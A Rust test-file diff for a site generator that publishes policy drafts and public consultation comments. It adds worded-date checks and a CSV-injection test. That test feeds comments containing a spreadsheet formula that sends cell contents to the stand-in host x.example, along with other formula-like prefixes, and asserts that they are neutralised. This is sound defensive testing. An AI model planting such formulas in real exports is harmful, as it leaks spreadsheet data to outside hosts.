@@ -18,6 +18,7 @@ use std::collections::{BTreeMap, HashMap, HashSet};
 use std::path::{Component, Path, PathBuf};
 
 use cotejo::notes::{ConsultationFile, read_yaml};
+use cotejo::render::labels::Lang;
 use scraper::{ElementRef, Html, Selector};
 use serde_json::Value;
 use support::{Run, TestRepo, cotejo_in, payloads};
@@ -300,9 +301,10 @@ fn the_sample_site_has_every_page_and_no_broken_link() {
         "{}",
         rows[0]
     );
-    // People's words: the date, not the commit (that is in the verification).
+    // People's words: the date as people write it, not the commit (that is
+    // in the verification).
     assert!(
-        rows[0].contains("2022-06-30") && !rows[0].contains("13ca3cdf0d3f"),
+        rows[0].contains("30 de junio de 2022") && !rows[0].contains("13ca3cdf0d3f"),
         "{}",
         rows[0]
     );
@@ -318,12 +320,12 @@ fn the_sample_site_has_every_page_and_no_broken_link() {
     let stages: Vec<String> = home.select(&sel(".stages li")).map(text_of).collect();
     let n = stages.len();
     assert!(
-        stages[n - 2].contains("Aprobación") && stages[n - 2].contains("2023-10-09"),
+        stages[n - 2].contains("Aprobación") && stages[n - 2].contains("9 de octubre de 2023"),
         "{stages:?}"
     );
     assert!(
         stages[n - 1].contains("Diario Oficial de la Federación")
-            && stages[n - 1].contains("2023-11-10"),
+            && stages[n - 1].contains("10 de noviembre de 2023"),
         "{stages:?}"
     );
     let record = home
@@ -434,7 +436,8 @@ fn the_consultation_report_says_what_the_comments_file_says() {
             "{folio}"
         );
         let text = text_of(*li);
-        for part in [folio, &comment.text, &comment.response, &comment.date.value] {
+        let date = cotejo::render::labels::long_date(Lang::Es, &comment.date.value);
+        for part in [folio, &comment.text, &comment.response, &date] {
             assert!(
                 text.contains(&normalize(part)),
                 "{folio}: {part} not in {text}"
@@ -563,6 +566,33 @@ fn english_labels() {
     let draft = page(&dir, "borradores/borrador-1.html");
     let document = draft.select(&sel("div.document")).next().unwrap();
     assert_eq!(document.value().attr("lang"), Some("es"));
+    // Dates in English words; the ISO form for machines.
+    let dates: Vec<(String, &str)> = draft
+        .select(&sel(".doc-header time"))
+        .map(|t| (text_of(t), t.value().attr("datetime").unwrap()))
+        .collect();
+    assert!(
+        dates.contains(&("30 June 2022".to_owned(), "2022-06-30")),
+        "{dates:?}"
+    );
+    let citation = draft.select(&sel(".citation")).map(text_of).next().unwrap();
+    assert!(
+        citation.contains("Primer borrador, 30 June 2022"),
+        "{citation}"
+    );
+    let banner = draft
+        .select(&sel(".older-draft"))
+        .map(text_of)
+        .next()
+        .unwrap();
+    assert!(
+        banner.starts_with(
+            "This text has been superseded. The latest version is Texto aprobado (9 October 2023)."
+        ),
+        "{banner}"
+    );
+    let feed = std::fs::read_to_string(dir.join("novedades.xml")).unwrap();
+    assert!(feed.contains("<summary>Sections: "), "{feed}");
     let css = std::fs::read_to_string(dir.join("estilo.css")).unwrap();
     assert!(
         css.contains("Inserted text:"),
@@ -723,7 +753,7 @@ fn section_history_pages_tell_the_samples_known_changes() {
     let step = moved
         .select(&sel("ol.steps > li"))
         .map(text_of)
-        .find(|t| t.starts_with("Segundo borrador (2022-10-14) → Tercer borrador"))
+        .find(|t| t.starts_with("Segundo borrador (14 de octubre de 2022) → Tercer borrador"))
         .expect("the step of the move");
     assert!(
         step.contains("Trasladada") && step.contains("4.6"),
@@ -1451,12 +1481,31 @@ fn the_site_publishes_sources_open_data_and_a_feed() {
         ]
     );
     assert_eq!(entries[1].1, "2022-03-01T00:00:00Z");
+    // A step's summary says what its counts count.
+    let xml = std::str::from_utf8(&files["novedades.xml"]).unwrap();
+    let feed = roxmltree::Document::parse(xml).unwrap();
+    let summaries: Vec<&str> = feed
+        .descendants()
+        .filter(|n| n.tag_name().name() == "summary")
+        .map(|n| n.text().unwrap_or_default())
+        .collect();
+    assert_eq!(summaries.len(), links.len());
+    for (summary, link) in summaries.iter().zip(&links) {
+        if link.starts_with("comparaciones/") {
+            assert!(summary.starts_with("Secciones: "), "{summary}");
+            assert!(summary.contains("modificada"), "{summary}");
+        } else {
+            assert!(summary.starts_with("Etapa: "), "{summary}");
+        }
+    }
     assert!(files.contains_key(links[0]));
 
     // The consultation as open data: the documented columns, a row per
     // comment, in the comments file's order.
     let columns: Vec<&str> = cotejo::site::COLUMNS.iter().map(|c| c.0).collect();
     let csv = std::str::from_utf8(&files["consulta.csv"]).unwrap();
+    // UTF-8 after a byte-order mark, so that Excel reads the accents.
+    let csv = csv.strip_prefix('\u{feff}').expect("a byte-order mark");
     let lines: Vec<&str> = csv.split_terminator("\r\n").collect();
     assert_eq!(lines[0], columns.join(","));
     assert_eq!(lines.len(), 1 + 3);
@@ -1493,11 +1542,27 @@ fn the_site_publishes_sources_open_data_and_a_feed() {
         let meta: Vec<String> = doc.select(&sel("footer .site-meta")).map(text_of).collect();
         assert_eq!(meta.len(), 1, "{name}");
         assert!(
-            meta[0].contains("Última actualización: 2022-03-01 (Tercer borrador)")
+            meta[0].contains("Última actualización: 1 de marzo de 2022 (Tercer borrador)")
                 && meta[0].contains("Licencia: CC BY 4.0")
                 && meta[0].contains("Novedades (Atom)"),
             "{name}: {meta:?}"
         );
+        // Machines read the ISO date.
+        let datetime: Vec<&str> = doc
+            .select(&sel("footer .site-meta time"))
+            .filter_map(|t| t.value().attr("datetime"))
+            .collect();
+        assert_eq!(datetime, ["2022-03-01"], "{name}");
+        // Every date a reader sees is worded, never ISO.
+        for time in doc.select(&sel("time")) {
+            let (shown, iso) = (text_of(time), time.value().attr("datetime").unwrap());
+            assert_eq!(
+                shown,
+                cotejo::render::labels::long_date(Lang::Es, iso),
+                "{name}"
+            );
+            assert!(is_iso_date(iso), "{name}: {iso}");
+        }
         assert_eq!(
             doc.select(&sel("link[rel=alternate][type='application/atom+xml']"))
                 .count(),
@@ -1547,6 +1612,14 @@ fn the_site_publishes_sources_open_data_and_a_feed() {
         assert_eq!(found.len(), usize::from(banner), "{d}");
         if banner {
             assert!(found[0].contains("Tercer borrador"), "{found:?}");
+            // Said once, not twice.
+            assert_eq!(found[0].matches("más reciente").count(), 1, "{found:?}");
+            assert!(
+                found[0].starts_with(
+                    "Este no es el texto más reciente. El último es Tercer borrador (1 de marzo de 2022)."
+                ),
+                "{found:?}"
+            );
             let hrefs: Vec<&str> = doc
                 .select(&sel(".older-draft a"))
                 .map(|a| a.value().attr("href").unwrap())
@@ -1571,11 +1644,11 @@ fn the_site_publishes_sources_open_data_and_a_feed() {
     let cites: Vec<String> = doc.select(&sel(".citation")).map(text_of).collect();
     assert_eq!(
         cites[0],
-        "Política de ejemplo. Segundo borrador, 2022-02-01. Disponible en: borradores/borrador-2.html"
+        "Política de ejemplo. Segundo borrador, 1 de febrero de 2022. Disponible en: borradores/borrador-2.html"
     );
     assert!(
         cites.contains(
-            &"Política de ejemplo. Segundo borrador, 2022-02-01, sección 4 «Glosario». Disponible en: borradores/borrador-2.html#glosario"
+            &"Política de ejemplo. Segundo borrador, 1 de febrero de 2022, sección 4 «Glosario». Disponible en: borradores/borrador-2.html#glosario"
                 .to_owned()
         ),
         "{cites:?}"
@@ -1664,6 +1737,96 @@ fn base_url_makes_the_feed_and_citations_absolute() {
         run.stderr
     );
     assert!(!repo.path().join("otro").exists());
+}
+
+/// `YYYY-MM-DD`.
+fn is_iso_date(s: &str) -> bool {
+    s.len() == 10
+        && s.bytes().enumerate().all(|(k, b)| {
+            if k == 4 || k == 7 {
+                b == b'-'
+            } else {
+                b.is_ascii_digit()
+            }
+        })
+}
+
+/// Comments are anyone's text: in `consulta.csv` a cell a spreadsheet would
+/// take for a formula starts with `'` (OWASP's advice against CSV injection),
+/// as does one that starts with `'`, and the consultation page says so;
+/// `consulta.json` keeps every text exactly.
+#[test]
+fn open_data_csv_cells_are_never_formulas_and_the_json_keeps_the_text() {
+    let repo = small_repo();
+    let path = repo.path().join("policy/consulta/comentarios.yaml");
+    let yaml = std::fs::read_to_string(&path).unwrap();
+    let texts = [
+        (
+            "\"Más claridad.\"",
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")",
+        ),
+        ("\"Falta presentar el glosario.\"", "- primero\n- segundo"),
+        ("\"Definir «metadato».\"", "@SUMA(A1:A9)"),
+        ("\"Ya es clara.\"", "+52 55 5555 5555"),
+        ("\"Se añade.\"", "\tcon tabulador"),
+        ("\"Se presenta el glosario.\"", "'entre apóstrofos'"),
+    ];
+    let mut changed = yaml.clone();
+    for (old, new) in texts {
+        changed = changed.replace(old, &serde_json::to_string(new).unwrap());
+    }
+    assert_ne!(changed, yaml);
+    std::fs::write(&path, changed).unwrap();
+    repo.cotejo(&["site", "-o", "sitio"]).ok();
+    let dir = repo.path().join("sitio");
+    let bytes = std::fs::read(dir.join("consulta.csv")).unwrap();
+    assert!(
+        bytes.starts_with(b"\xEF\xBB\xBF"),
+        "a UTF-8 byte-order mark"
+    );
+    let csv = std::str::from_utf8(&bytes[3..]).unwrap();
+    // Read back as RFC 4180 by the csv crate: every cell of a comment's row.
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    let (comentario, respuesta) = (6, 8);
+    assert_eq!(
+        rows.iter()
+            .map(|r| (r[comentario].as_str(), r[respuesta].as_str()))
+            .collect::<Vec<_>>(),
+        [
+            (
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")",
+                "'+52 55 5555 5555"
+            ),
+            ("'- primero\n- segundo", "'\tcon tabulador"),
+            ("'@SUMA(A1:A9)", "''entre apóstrofos'"),
+        ]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+    let json: Value =
+        serde_json::from_slice(&std::fs::read(dir.join("consulta.json")).unwrap()).unwrap();
+    let comments = json["comentarios"].as_array().unwrap();
+    assert_eq!(comments[0]["comentario"], texts[0].1);
+    assert_eq!(comments[1]["comentario"], texts[1].1);
+    assert_eq!(comments[1]["respuesta"], texts[4].1);
+    assert_eq!(comments[2]["respuesta"], texts[5].1);
+    let note = page(&dir, "consulta.html")
+        .select(&sel(".open-data details p"))
+        .map(text_of)
+        .next()
+        .expect("the CSV's note");
+    assert!(note.contains("UTF-8 con marca de orden de bytes"), "{note}");
+    assert!(note.contains("lleva delante un apóstrofo"), "{note}");
 }
 
 #[test]
